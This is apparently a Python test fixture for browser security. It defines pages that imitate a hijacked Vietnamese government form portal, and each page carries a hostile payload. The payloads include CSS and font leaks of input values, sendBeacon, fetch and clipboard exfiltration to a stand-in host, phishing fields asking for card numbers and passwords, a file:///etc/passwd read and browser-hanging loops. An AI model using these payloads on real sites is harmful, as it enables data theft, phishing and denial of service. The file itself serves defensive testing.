"""Pages of a portal that has been taken over: each does one thing that no form needs.

`HERE` and `THERE` stand for the portal's address and another one's. A page says “Tờ khai” and has
two boxes and a button, as the form that it pretends to be; then come its own lines.
"""

from __future__ import annotations

# The page does nothing more, so that somebody asks what is wrong with it.
STAYS = "<script>going = () => {}</script>"
FORM = """<!doctype html><meta charset=utf-8><title>Cổng</title><h1>Tờ khai</h1>
<form action="/tiep" method=get>
<label for=a>Họ và tên</label><input id=a name=a>
<label for=b>Số định danh</label><input id=b name=b>
<button type=button onclick="going()">Tiếp tục</button></form>
<script>function going() { document.forms[0].submit() }</script>"""
NEXT = "<!doctype html><meta charset=utf-8><h1>Kiểm tra</h1>"
VALUES = "[...document.querySelectorAll('input')].map((one) => one.value).join()"

# What leads out; every one of them must be noticed.
LEAVING = {
    "a refresh": '<meta http-equiv=refresh content="0;url=THERE/">',
    "a picture": "<img src=THERE/a.png>",
    "a frame": "<iframe src=THERE/></iframe>",
    "an object": "<object data=THERE/a type=text/html></object><embed src=THERE/b>",
    "a base": "<base href=THERE/><script src=a.js></script>",
    "a style that tells the first letter": (
        "<style>#b[data-v^='0'] { background: url(THERE/0) }</style><script>"
        "document.querySelector('#b').addEventListener('input', (e) =>"
        " e.target.setAttribute('data-v', e.target.value))</script>"
    ),
    "a font that tells which letters there are": (
        "<style>@font-face { font-family: spy; src: url(THERE/d); unicode-range: U+30-39 }"
        " input { font-family: spy }</style>"
    ),
    "an import of a style": "<style>@import url(THERE/a.css);</style>",
    "a form that changes its address at the last moment": (
        "<script>going = () => { document.forms[0].action = 'THERE/'; document.forms[0].submit() }"
        "</script>"
    ),
    "a button with an address of its own": (
        "<script>going = () => { const b = document.createElement('button');"
        " b.setAttribute('formaction', 'THERE/'); document.forms[0].append(b); b.click() }</script>"
    ),
    "a script for an address": (
        "<script>going = () => { location.href = "
        f"`javascript:void(location.href = 'THERE/?' + ({VALUES}))` }}</script>"
    ),
    "the portal's name before an @": (
        "<script>going = () => { location.href = 'THERE/'.replace('//', '//' + location.host + '@')"
        " }</script>"
    ),
    "a blob that leads on": (
        "<script>going = () => { const page = new Blob([`<script>location.href = 'THERE/'<` +"
        " `/script>`], {type: 'text/html'}); const i = document.createElement('iframe');"
        " i.src = URL.createObjectURL(page); document.body.append(i) }</script>"
    ),
    "a beacon when it is left": (
        f"<script>addEventListener('pagehide', () => navigator.sendBeacon('THERE/', {VALUES}))"
        "</script>"
    ),
    "a window": "<script>going = () => window.open('THERE/')</script>",
    "a prefetch": "<link rel=prefetch href=THERE/a><link rel=preload as=fetch href=THERE/b>",
    "a ping": (
        "<script>going = () => { const a = document.createElement('a'); a.href = '#x';"
        " a.ping = 'THERE/'; document.body.append(a); a.click() }</script>"
    ),
    "a report": (
        '<meta http-equiv=Content-Security-Policy content="img-src none; report-uri THERE/">'
        "<img src=/a.png><img src=THERE/b.png>"
    ),
    "a style that tells what is ticked": (
        "<style>form:has(#b:valid) { background: image-set('THERE/1.png' 1x);"
        " cursor: url(THERE/2.cur), auto; mask: url(THERE/3.svg#m); list-style: url(THERE/4) }"
        " #b:not(:placeholder-shown)::after, h1::before { content: url(THERE/5) }</style>"
    ),
    "a drawing": (
        "<svg><image href=THERE/a.png /><use href='THERE/b.svg#x' />"
        "<filter id=f><feImage href=THERE/c.png /></filter>"
        "<rect filter='url(#f)' width=9 height=9 /></svg>"
    ),
    "a film": "<video src=THERE/a.mp4 poster=THERE/b.png autoplay></video><audio src=THERE/c>",
    "an icon and a list of the app": (
        "<link rel=icon href=THERE/i.png><link rel=manifest href=THERE/m.json>"
        "<img srcset='THERE/a.png 1x'><picture><source srcset=THERE/b.png><img></picture>"
    ),
    "a stream": "<script>new EventSource('THERE/')</script>",
    "what is dragged": (
        f"<script>going = () => {{ const d = new DataTransfer(); d.setData('text/uri-list',"
        f" 'THERE/?' + ({VALUES})); for (const t of ['dragstart', 'dragover', 'drop'])"
        " document.body.dispatchEvent(new DragEvent(t, {dataTransfer: d, bubbles: true}));"
        " location.href = d.getData('text/uri-list') }</script>"
    ),
    "what was copied": (
        f"<script>addEventListener('copy', (e) => e.clipboardData.setData('text/plain', {VALUES}));"
        f"going = async () => {{ document.execCommand('copy'); let t = '';"
        f" try {{ t = await navigator.clipboard.readText() }} catch {{ t = ({VALUES}) }}"
        " fetch('THERE/?' + t, {mode: 'no-cors'}) }</script>"
    ),
    "a redirect": "<script>going = () => { location.href = '/redirect' }</script>",
    "a fetch that is redirected": "<script>fetch('/redirect', {mode: 'no-cors'})</script>",
}
# What stays within the browser, and what is told of it.
WITHIN = {
    "a web socket": ("<script>new WebSocket('THERE/'.replace('http', 'ws'))</script>", "WebSocket"),
    "web rtc": ("<script>try { new RTCPeerConnection() } catch {}</script>", "WebRTC"),
    "a shared worker": ("<script>try { new SharedWorker('/a.js') } catch {}</script>", "Shared"),
    "twenty windows": (
        "<script>for (let n = 0; n < 20; n++) window.open('/tiep')</script>",
        "mở cửa sổ khác",
    ),
    "a download": (
        (
            "<a id=d download=a.exe href='data:application/octet-stream,MZ'></a>"
            "<script>document.querySelector('#d').click()</script>"
        ),
        "tải tệp xuống máy",
    ),
    "a printer": ("<script>print()</script>", "máy in"),
    "a box that nobody sees": (
        "<style>#b { opacity: 0 }</style>",
        "Số định danh",
    ),
    "a box off the page": (
        "<style>#b { position: absolute; left: -9999px }</style>",
        "Số định danh",
    ),
    "sixty thousand boxes": (
        (
            "<script>document.body.append(...Array.from({length: 60000},"
            " () => document.createElement('input')))</script>"
        ),
        "ô và nút",
    ),
    "a page without an end": (
        (
            "<script>for (let n = 0; n < 300; n++) document.body.insertAdjacentHTML('beforeend',"
            " '<div role=alert>' + 'x'.repeat(9999) + '</div>')</script>"
        ),
        "cổng",
    ),
    "fields that ask for more": (
        (
            "<script>for (const n of ['citizen_id', 'phone', 'cc-number', 'password'])"
            " document.forms[0].insertAdjacentHTML('beforeend',"
            " `<label for=${n}>Số tài khoản ngân hàng (*)</label>"
            "<input id=${n} name=${n} autocomplete=${n} required>`)</script>"
        ),
        "Số tài khoản ngân hàng",
    ),
    "a clock that stands still": (
        (
            "<script>window.setTimeout = window.requestAnimationFrame = () => 0;"
            " Date.now = performance.now = () => 0; going = () => {};"
            " document.querySelector('button').disabled = true</script>"
        ),
        "không xong sau",
    ),
    "a frame that holds no page": (
        (
            "<iframe src='data:text/xml,<x/>'></iframe><iframe src='data:image/svg+xml,"
            "<svg xmlns=%22http://www.w3.org/2000/svg%22/>'></iframe>"
        ),
        "chưa hiện gì mới",
    ),
    "a history of a thousand places": (
        (
            "<script>going = () => {"
            " for (let n = 0; n < 1000; n++) history.pushState(n, '', '/x' + n);"
            " onpopstate = () => history.pushState(0, '', '/y'); history.go(-500) }</script>"
        ),
        "chưa hiện gì mới",
    ),
    "a page as deep as it can be": (
        (
            "<script>let d = document.body; for (let n = 0; n < 5000; n++)"
            " { d.append(document.createElement('div')); d = d.lastChild }"
            " going = () => {}</script>"
        ),
        # Its own browser gives up at it, sooner or later.
        "cổng",
    ),
    "a file of this machine": (
        "<script>going = () => { location.href = 'file:///etc/passwd' }</script>",
        "chưa hiện gì mới",
    ),
    "a button that never ends": (
        "<script>going = () => { for (;;); }</script>",
        "chưa hiện gì mới",
    ),
    "questions without an end": ("<script>going = () => { for (;;) alert(1) }</script>", "gì mới"),
    "a page that loads itself for ever": (
        (
            "<script>going = () => { sessionStorage.on = 1; location.reload() };"
            " if (sessionStorage.on) location.reload()</script>"
        ),
        "",
    ),
    "a history that leads back": (
        (
            "<script>going = () => { history.pushState(0, '', '/tiep');"
            " history.pushState(0, '', '/x'); onpopstate = () => history.forward();"
            " history.back() }</script>"
        ),
        "chưa hiện gì mới",
    ),
    "an address that only looks like the next page's": (
        (
            "<script>going = () => { history.replaceState(0, '', '/tiep');"
            " document.querySelector('h1').textContent = 'Đã nộp' }</script>"
        ),
        "“Đã nộp”",
    ),
}
